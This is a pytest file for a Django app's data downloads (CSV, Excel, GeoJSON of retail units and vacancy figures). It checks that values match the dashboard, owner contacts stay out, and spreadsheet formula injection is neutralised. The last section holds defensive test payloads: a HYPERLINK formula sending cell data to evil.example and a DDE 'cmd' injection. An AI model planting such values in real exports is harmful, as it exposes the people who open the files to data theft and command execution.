"""Downloads parse back (csv module, openpyxl, json) with the numbers the cards show, and never hold owners.

The tests of the columns for software ask for them (``?kolommen=machine``); by default a download is for people:
named columns in the page's language, and in Dutch ``;`` with decimal commas (test_downloads_for_people.py)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.template.defaultfilters import floatformat
from django.urls import reverse
from openpyxl import load_workbook

from kernkompas.monitor.tests.dashboard_fixtures import COUNT_1, COUNT_2, SLUGS


def _get(client, kind, fmt, query=""):
    query = (query + "&" if query else "?") + "kolommen=machine"
    response = client.get(reverse("monitor:download", kwargs={**SLUGS, "kind": kind, "fmt": fmt}) + query)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return response


def _card(client, code):
    return client.get(reverse("monitor:gebied", kwargs=SLUGS)).context["cards"][
        [c["code"] for c in client.get(reverse("monitor:gebied", kwargs=SLUGS)).context["cards"]].index(code)
    ]["value"]


def test_the_indicator_csv_has_a_row_per_count_with_the_numbers_of_the_cards(client, public_register):
    body = _get(client, "indicatoren", "csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["date"] for r in rows] == [COUNT_1.isoformat(), COUNT_2.isoformat()]
    latest = rows[-1]
    assert int(latest["units"]) == 6 and int(latest["vacant_units"]) == 2
    assert floatformat(float(latest["vacancy_rate"]) * 100, "1g") + " %" == _card(client, "vacancy_rate")
    assert int(latest["churn_closures"]) == 1
    assert int(latest["mix_leegstand"]) == 2 and int(latest["mix_wonen"]) == 1
    assert rows[0]["churn_closures"] == ""  # no previous count: not known, not zero


def test_the_indicator_excel_file_has_real_numbers(client, public_register):
    book = load_workbook(io.BytesIO(_get(client, "indicatoren", "xlsx").content))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    latest = dict(zip(header, [c.value for c in sheet[3]], strict=True))
    assert latest["units"] == 6
    assert floatformat(latest["vacancy_rate"] * 100, "1g") + " %" == _card(client, "vacancy_rate")
    assert sheet.max_row == 3


def test_the_units_csv_follows_the_count_and_the_filters(client, public_register):
    body = _get(client, "panden", "csv", f"?telling={COUNT_1.isoformat()}&leeg=1").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(r["street"], r["house_number"], r["vacant"]) for r in rows] == [("Markt", "3", "1")]
    everything = list(csv.DictReader(io.StringIO(_get(client, "panden", "csv").content.decode("utf-8-sig"))))
    assert len(everything) == 7
    assert {r["group_code"] for r in everything} >= {"dagelijks", "leegstand", "wonen"}


def test_the_units_excel_file_matches_the_csv(client, public_register):
    book = load_workbook(io.BytesIO(_get(client, "panden", "xlsx").content))
    rows = list(book.active.iter_rows(values_only=True))
    assert len(rows) == 8
    header = rows[0]
    supermarket = dict(zip(header, rows[1], strict=True))
    assert supermarket["occupant"] == "Buurtsuper" and supermarket["floor_area_m2"] == 400


def test_the_units_geojson_has_points_and_no_owner_contacts(client, public_register):
    response = _get(client, "panden", "geojson")
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection" and len(data["features"]) == 7
    first = data["features"][0]
    assert first["geometry"]["type"] == "Point"
    assert "owner" not in json.dumps(data).lower() and "Jan Eigenaar" not in response.content.decode()
    vacant = [f for f in data["features"] if f["properties"]["vacant"]]
    assert {f["properties"]["vacancy_duration"] for f in vacant} == {"short"}


@pytest.mark.parametrize("path", ["indicatoren.geojson", "panden.pdf", "eigenaars.csv"])
def test_other_downloads_do_not_exist(client, public_register, path):
    kind, fmt = path.split(".")
    url = reverse("monitor:download", kwargs={**SLUGS, "kind": kind, "fmt": fmt})
    assert client.get(url).status_code == 404


# --- Formulas in names and addresses stay text (issue 9, finding 4) -----------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Huurprijs")'
HOSTILE = {"M1": ("=1+1", HYPERLINK), "M2": ("@SUM(1+1)", "-2+3+cmd|' /C calc'!E2"), "M4": ("\t=1+1", "+31 6 1234")}


@pytest.fixture
def hostile_register(public_register):
    """Marktplein's units with streets and occupants that a spreadsheet would run as formulas."""
    from kernkompas.monitor.models import Unit, UnitState

    for own_id, (street, occupant) in HOSTILE.items():
        Unit.objects.filter(external_id=own_id).update(street=street)
        UnitState.objects.filter(unit__external_id=own_id).update(occupant=occupant)
    return public_register


def test_the_units_excel_file_shows_formulas_as_the_text_they_are(client, hostile_register):
    book = load_workbook(io.BytesIO(_get(client, "panden", "xlsx").content))
    sheet = book.active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    for own_id, (street, occupant) in HOSTILE.items():
        assert rows[own_id]["street"] == street and rows[own_id]["occupant"] == occupant
    assert isinstance(rows["M1"]["lat"], float) and rows["M1"]["floor_area_m2"] == 400  # numbers stay numbers


def test_the_units_csv_puts_an_apostrophe_before_a_formula_and_quotes_every_text(client, hostile_register):
    body = _get(client, "panden", "csv").content.decode("utf-8-sig")
    rows = {r["own_id"]: r for r in csv.DictReader(io.StringIO(body))}
    for own_id, (street, occupant) in HOSTILE.items():
        assert rows[own_id]["street"] == "'" + street and rows[own_id]["occupant"] == "'" + occupant
    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Huurprijs"")"' in body
